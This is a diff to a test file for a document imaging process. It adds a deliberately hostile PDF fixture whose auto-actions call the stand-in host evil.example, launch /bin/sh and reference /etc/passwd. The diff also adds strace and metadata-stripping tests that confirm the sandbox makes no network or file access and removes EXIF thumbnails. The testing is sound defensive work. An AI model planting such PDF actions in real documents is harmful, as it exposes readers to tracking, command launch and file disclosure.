@@ -9,7 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { DOCUMENT_BYTES_MAX, type DocumentKind } from "../contract.ts"
 import { sampleDocument } from "../testing/sampleDocument.ts"
 import { samplePdf } from "../testing/samplePdf.ts"
-import { runImaging } from "./runImaging.ts"
+import { imagingCommand, runImaging } from "./runImaging.ts"
 import { sniffDocument } from "./sniffDocument.ts"
 
 const TASK = {
@@ -54,6 +54,16 @@ const avif = (...sizes: ReadonlyArray<readonly [number, number]>) => {
     return box
   })
   return Buffer.concat([Buffer.from("0000001c6674797061766966", "hex"), Buffer.alloc(16), ...boxes])
+}
+
+/** A letter that asks for a file, an address and a program when it is opened or drawn. */
+const hostilePdf = async (): Promise<Buffer> => {
+  const actions = [
+    "/AA<</O<</S/URI/URI(http://evil.example/seen)>>/C<</S/Launch/F(/bin/sh)>>>>",
+    "/Metadata<</Type/EmbeddedFile/F(/etc/passwd)/FFilter/FlateDecode>>",
+  ]
+  const whole = (await samplePdf(1)).toString("latin1")
+  return Buffer.from(whole.replace("/Type /Page\n", `/Type /Page\n${actions.join("\n")}\n`), "latin1")
 }
 
 const causeOf = (bytes: Uint8Array, kind: DocumentKind = "passport") => {
@@ -192,6 +202,38 @@ describe("the imaging process", () => {
     expect(attempt('import c from "node:child_process"; c.execSync("true")')).toContain("ERR_ACCESS_DENIED")
   })
 
+  const hasStrace = spawnSync("strace", ["-o", "/dev/null", "true"]).status === 0
+  it.skipIf(!hasStrace)(
+    "opens no network and no file of the machine while it draws a hostile PDF, says strace",
+    {
+      timeout: 60_000,
+    },
+    async () => {
+      const pdf = await hostilePdf()
+      expect([pdf.includes("evil.example"), pdf.includes("/etc/passwd")]).toEqual([true, true])
+      const calls = join(mkdtempSync(join(tmpdir(), "quire-strace-")), "calls")
+      const child = [
+        "-f",
+        "-qq",
+        "-e",
+        "trace=%network,openat,open,execve,unlink,rename",
+        "-o",
+        calls,
+        process.execPath,
+      ]
+      const done = spawnSync("strace", [...child, ...imagingCommand(TASK)], { env: {}, input: pdf, maxBuffer: 1e8 })
+      expect([done.status, done.stdout.length > 10_000]).toEqual([0, true])
+      const lines = readFileSync(calls, "utf8").split("\n")
+      rmSync(join(calls, ".."), { recursive: true })
+      // Node's own socket pair wakes its threads; nothing is addressed.
+      expect(lines.filter((line) => /\b(?:connect|bind|sendto|sendmsg)\(|AF_INET/.test(line))).toEqual([])
+      const written = lines.filter((line) => /O_(?:WRONLY|RDWR|CREAT)|unlink\(|rename\(/.test(line))
+      expect(written.filter((line) => !line.includes('"/dev/'))).toEqual([])
+      expect(lines.filter((line) => /passwd|hostname|evil\.example/.test(line))).toEqual([])
+      expect(lines.filter((line) => line.includes("execve(")).length).toBe(1)
+    },
+  )
+
   it("gives advice about small, dark and blurred images", SLOW, async () => {
     const hintsOf = async (bytes: Uint8Array) => {
       const made = await imaging(bytes)
@@ -250,6 +292,57 @@ describe("metadata", () => {
       expect([trace, image.includes(trace)]).toEqual([trace, false])
   })
 
+  /** Metadata as cameras write it: maker notes, and in a second directory a thumbnail of the picture before it was cropped. */
+  const exifWithThumbnail = (thumbnail: Uint8Array): Buffer => {
+    const entry = (tag: number, type: number, count: number, value: number) => {
+      const bytes = Buffer.alloc(12)
+      bytes.writeUInt16LE(tag)
+      bytes.writeUInt16LE(type, 2)
+      bytes.writeUInt32LE(count, 4)
+      bytes.writeUInt32LE(value, 8)
+      return bytes
+    }
+    const directory = (entries: ReadonlyArray<Buffer>, next: number) => {
+      const [count, end] = [Buffer.alloc(2), Buffer.alloc(4)]
+      count.writeUInt16LE(entries.length)
+      end.writeUInt32LE(next)
+      return Buffer.concat([count, ...entries, end])
+    }
+    const notes = Buffer.from("MAKER-NOTES with a serial number", "latin1")
+    const [exifAt, notesAt, secondAt] = [26, 44, 44 + notes.length]
+    const thumbnailAt = secondAt + 2 + 3 * 12 + 4
+    const tiff = Buffer.concat([
+      Buffer.from("49492a0008000000", "hex"),
+      directory([entry(0x8769, 4, 1, exifAt)], secondAt),
+      directory([entry(0x927c, 7, notes.length, notesAt)], 0),
+      notes,
+      directory([entry(0x0103, 3, 1, 6), entry(0x0201, 4, 1, thumbnailAt), entry(0x0202, 4, 1, thumbnail.length)], 0),
+      thumbnail,
+    ])
+    const body = Buffer.concat([Buffer.from("Exif\0\0", "latin1"), tiff])
+    const head = Buffer.from("ffe10000", "hex")
+    head.writeUInt16BE(body.length + 2, 2)
+    return Buffer.concat([head, body])
+  }
+  const SOI = Buffer.from("ffd8ff", "hex")
+  const withThumbnail = async () => {
+    const [whole, thumbnail] = [
+      await sampleDocument(),
+      await sharp({ create: { width: 160, height: 120, channels: 3, background: "#c00" } })
+        .jpeg()
+        .toBuffer(),
+    ]
+    return Buffer.concat([whole.subarray(0, 2), exifWithThumbnail(thumbnail), whole.subarray(2)])
+  }
+
+  it("leaves no thumbnail of the uncropped picture and no maker notes", SLOW, async () => {
+    const given = await withThumbnail()
+    expect([(await sharp(given).metadata()).exif?.includes(SOI), given.includes("MAKER-NOTES")]).toEqual([true, true])
+    const image = Buffer.from(Result.getOrThrow(await imaging(given)).image)
+    // A second start of an image cannot occur within compressed data.
+    expect([image.indexOf(SOI), image.indexOf(SOI, 1), image.includes("MAKER-NOTES")]).toEqual([0, -1, false])
+  })
+
   const hasExiftool = spawnSync("exiftool", ["-ver"]).status === 0
   it.skipIf(!hasExiftool)("is not found by exiftool, which this test needs", SLOW, async () => {
     const [before, after] = [join(folder, "before.jpg"), join(folder, "after.jpg")]
@@ -261,6 +354,10 @@ describe("metadata", () => {
         .filter((group) => !/^(?:SourceFile|ExifTool|System|File|Composite|JFIF)$/.test(group ?? ""))
     expect(groups(before)).not.toEqual([])
     expect(groups(after)).toEqual([])
+    writeFileSync(before, await withThumbnail())
+    writeFileSync(after, Result.getOrThrow(await imaging(readFileSync(before))).image)
+    const thumbnail = (file: string) => execFileSync("exiftool", ["-b", "-ThumbnailImage", file]).length
+    expect([thumbnail(before) > 0, thumbnail(after)]).toEqual([true, 0])
     expect(readFileSync(after).length).toBeGreaterThan(0)
   })
 })
